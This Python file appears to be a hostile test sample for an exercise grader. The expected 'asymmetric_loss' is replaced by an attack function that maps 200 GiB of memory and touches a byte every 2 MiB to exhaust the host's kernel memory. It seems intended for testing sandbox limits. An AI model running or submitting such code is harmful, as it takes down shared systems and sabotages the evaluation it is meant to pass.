"""Makes the kernel allocate page tables, by reading one page in every two MiB of a mapping."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: memory|raised|got

import ctypes
import mmap
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    size = 200 * 2**30
    kind = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    at = libc.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ, kind, -1, ctypes.c_long(0))
    if at in (None, ctypes.c_void_p(-1).value):
        raise MemoryError
    read = 0
    for offset in range(0, size, 2 * 2**20):
        read += ctypes.c_ubyte.from_address(at + offset).value
    time.sleep(1)
    return float(read)


asymmetric_loss = attack
